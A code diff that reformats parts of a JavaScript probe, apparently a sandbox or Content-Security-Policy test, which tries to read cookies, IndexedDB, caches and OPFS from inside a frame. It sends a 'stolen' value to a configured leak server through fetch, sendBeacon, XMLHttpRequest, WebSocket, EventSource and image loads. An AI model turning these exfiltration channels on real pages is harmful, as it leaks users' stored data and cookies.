@@ -14,8 +14,7 @@
     violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
   });
 
-  const describeError = (error) =>
-    error && typeof error === 'object' && 'name' in error ? `${error.name}: ${error.message}` : String(error);
+  const describeError = (error) => (error && typeof error === 'object' && 'name' in error ? `${error.name}: ${error.message}` : String(error));
 
   const withTimeout = (promise, ms) =>
     new Promise((resolve, reject) => {
@@ -62,16 +61,18 @@
     document.cookie = 'pwned=1';
     return document.cookie;
   });
-  await attempt('indexedDB.open(app db)', () =>
-    new Promise((resolve, reject) => {
-      const request = indexedDB.open(CONFIG.dbName);
-      request.onerror = () => reject(request.error);
-      request.onsuccess = () => {
-        const stores = [...request.result.objectStoreNames];
-        request.result.close();
-        resolve({ stores });
-      };
-    }),
+  await attempt(
+    'indexedDB.open(app db)',
+    () =>
+      new Promise((resolve, reject) => {
+        const request = indexedDB.open(CONFIG.dbName);
+        request.onerror = () => reject(request.error);
+        request.onsuccess = () => {
+          const stores = [...request.result.objectStoreNames];
+          request.result.close();
+          resolve({ stores });
+        };
+      }),
   );
   await attempt('caches.keys()', () => caches.keys());
   await attempt('OPFS navigator.storage.getDirectory()', async () => {
@@ -90,31 +91,37 @@
     attempt('fetch(leak server)', async () => `status ${(await fetch(leakUrl('frame-fetch', stolen))).status}`),
     attempt('fetch(app origin)', async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/frame-fetch-app`)).status}`),
     attempt('navigator.sendBeacon', () => navigator.sendBeacon(leakUrl('frame-beacon', stolen), stolen)),
-    attempt('XMLHttpRequest', () =>
-      new Promise((resolve, reject) => {
-        const request = new XMLHttpRequest();
-        request.open('GET', leakUrl('frame-xhr', stolen));
-        request.onload = () => resolve(`status ${request.status}`);
-        request.onerror = () => reject(new Error('error event'));
-        request.send();
-      }),
+    attempt(
+      'XMLHttpRequest',
+      () =>
+        new Promise((resolve, reject) => {
+          const request = new XMLHttpRequest();
+          request.open('GET', leakUrl('frame-xhr', stolen));
+          request.onload = () => resolve(`status ${request.status}`);
+          request.onerror = () => reject(new Error('error event'));
+          request.send();
+        }),
     ),
-    attempt('WebSocket', () =>
-      new Promise((resolve, reject) => {
-        const socket = new WebSocket(`${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/frame-websocket`);
-        socket.onopen = () => resolve('open');
-        socket.onerror = () => reject(new Error('error event'));
-      }),
+    attempt(
+      'WebSocket',
+      () =>
+        new Promise((resolve, reject) => {
+          const socket = new WebSocket(`${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/frame-websocket`);
+          socket.onopen = () => resolve('open');
+          socket.onerror = () => reject(new Error('error event'));
+        }),
     ),
-    attempt('EventSource', () =>
-      new Promise((resolve, reject) => {
-        const source = new EventSource(leakUrl('frame-eventsource', stolen));
-        source.onopen = () => resolve('open');
-        source.onerror = () => {
-          source.close();
-          reject(new Error('error event'));
-        };
-      }),
+    attempt(
+      'EventSource',
+      () =>
+        new Promise((resolve, reject) => {
+          const source = new EventSource(leakUrl('frame-eventsource', stolen));
+          source.onopen = () => resolve('open');
+          source.onerror = () => {
+            source.close();
+            reject(new Error('error event'));
+          };
+        }),
     ),
     attempt('<img src=leak>', () => {
       const image = new Image();
